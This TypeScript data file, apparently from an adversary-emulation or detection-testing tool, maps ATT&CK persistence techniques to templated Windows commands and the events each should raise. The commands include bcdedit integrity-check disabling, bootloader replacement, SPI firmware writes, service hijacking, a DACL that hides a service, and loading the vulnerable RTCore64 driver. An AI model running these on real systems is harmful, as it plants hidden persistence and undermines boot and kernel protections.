import { t, v } from "../dsl";

/** Persistence (continued): pre-OS boot and system services. */
export const persistenceD = [
  t("T1542", "Pre-OS boot", "Boot configuration changed with bcdedit to load unsigned code.", [
    v("bcdedit-testsigning", ["bcdedit /set testsigning on", "bcdedit /set nointegritychecks on"], {
      elevated: true,
    }),
  ]),
  t(
    "T1542.001",
    "System firmware",
    "UEFI variables written or flashed from the OS (CHIPSEC/vendor flashers).",
    [
      v(
        "chipsec",
        ['"C:\\Program Files\\Python311\\python.exe" chipsec_util.py spi write 0x700000 {{tools}}\\bios.bin'],
        { elevated: true },
      ),
    ],
  ),
  t("T1542.002", "Component firmware", "Disk or NIC firmware updated from the OS with a vendor tool.", [
    v("fw-update", ["{{tools}}\\fwupdate.exe /flash {{tools}}\\fw.bin /force"], { elevated: true }),
  ]),
  t(
    "T1542.003",
    "Bootkit",
    "The boot manager replaced or bcdedit pointed to an attacker loader (BlackLotus style).",
    [
      v(
        "bcdedit-path",
        [
          "mountvol S: /s",
          {
            cmd: "cmd.exe /c copy /y {{tools}}\\grubx64.efi S:\\EFI\\Microsoft\\Boot\\bootmgfw.efi",
            files: ["S:\\EFI\\Microsoft\\Boot\\bootmgfw.efi"],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1543", "Create or modify system process", "A service created for persistence.", [
    // sc.exe asks the SCM to install the service: 7045/4697 follow on the host.
    v(
      "sc-create",
      [
        {
          cmd: 'sc create {{name}} binPath= "{{$dir}}\\{{rand}}.exe" start= auto',
          then: [
            {
              id: "s",
              kind: "service.install",
              proc: "@services",
              name: "{{name}}",
              imagePath: "{{$dir}}\\{{rand}}.exe",
              startType: "auto start",
            },
          ],
        },
      ],
      { elevated: true, vars: { dir: "{{C:\\ProgramData|C:\\Windows\\Temp|C:\\Users\\Public}}" } },
    ),
    // Hijack an existing, rarely used service instead of adding one: its binPath now starts the payload.
    v(
      "sc-config-binpath",
      [
        {
          cmd: 'sc config {{$svc}} binPath= "C:\\ProgramData\\{{rand}}.exe" start= auto',
          reg: [
            [
              "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{{$svc}}",
              "ImagePath",
              "C:\\ProgramData\\{{rand}}.exe",
              "REG_EXPAND_SZ",
            ],
          ],
        },
        "sc start {{$svc}}",
      ],
      { elevated: true, vars: { svc: "{{SensorService|Fax|wercplsupport}}" } },
    ),
    // Hafnium/Tarrask style: a deny-everyone DACL hides the persistence service from sc query and services.msc.
    v(
      "sc-sdset-hide",
      [
        {
          cmd: 'sc create {{name}} binPath= "C:\\ProgramData\\{{name}}\\{{name}}.exe" start= auto',
          then: [
            {
              id: "s",
              kind: "service.install",
              proc: "@services",
              name: "{{name}}",
              imagePath: "C:\\ProgramData\\{{name}}\\{{name}}.exe",
              startType: "auto start",
            },
          ],
        },
        'sc sdset {{name}} "D:(D;;DCLCWPDTSD;;;IU)(D;;DCLCWPDTSD;;;SU)(D;;DCLCWPDTSD;;;BA)(A;;CCLCSWLOCRRC;;;IU)(A;;CCLCSWLOCRRC;;;SU)(A;;CCLCSWRPWPDTLOCRRC;;;SY)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;BA)S:(AU;FA;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;WD)"',
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1543.003",
    "Windows service",
    "Services created or reconfigured with sc.exe, New-Service or registry ImagePath writes.",
    [
      // BYOVD as ransomware crews do it (BlackByte with RTCore64.sys): a kernel service for a signed vulnerable driver.
      v(
        "sc-kernel-driver",
        [
          {
            cmd: 'sc.exe create RTCore64 binPath= "{{appdata}}\\RTCore64.sys" type= kernel start= auto',
            then: [
              {
                id: "s",
                kind: "service.install",
                proc: "@services",
                name: "RTCore64",
                imagePath: "{{appdata}}\\RTCore64.sys",
                serviceType: "kernel mode driver",
                startType: "auto start",
              },
            ],
          },
          {
            cmd: "sc.exe start RTCore64",
            then: [
              {
                id: "d",
                kind: "driver.load",
                image: "{{appdata}}\\RTCore64.sys",
                signed: true,
                signature: "Micro-Star Int'l Co. Ltd.",
              },
            ],
          },
        ],
        { elevated: true },
      ),
      v(
        "sc-create",
        [
          {
            cmd: 'sc create {{name}} binPath= "C:\\ProgramData\\{{rand}}\\{{name}}.exe" DisplayName= "{{name}}" start= auto',
            then: [
              {
                id: "s",
                kind: "service.install",
                proc: "@services",
                name: "{{name}}",
                imagePath: "C:\\ProgramData\\{{rand}}\\{{name}}.exe",
                startType: "auto start",
              },
            ],
          },
        ],
        { elevated: true },
      ),
      v(
        "sc-config",
        [
          'sc config {{Fax|SessionEnv|RemoteRegistry}} binPath= "cmd.exe /c C:\\Windows\\Temp\\{{rand}}.exe" start= auto',
        ],
        { elevated: true },
      ),
      v(
        "reg-imagepath",
        [
          {
            cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{{name}}" /v ImagePath /t REG_EXPAND_SZ /d "%SystemRoot%\\System32\\svchost.exe -k {{name}}" /f',
            reg: [
              [
                "HKLM\\SYSTEM\\CurrentControlSet\\Services\\{{name}}",
                "ImagePath",
                "%SystemRoot%\\System32\\svchost.exe -k {{name}}",
                "REG_EXPAND_SZ",
              ],
            ],
          },
        ],
        { elevated: true },
      ),
    ],
  ),
];
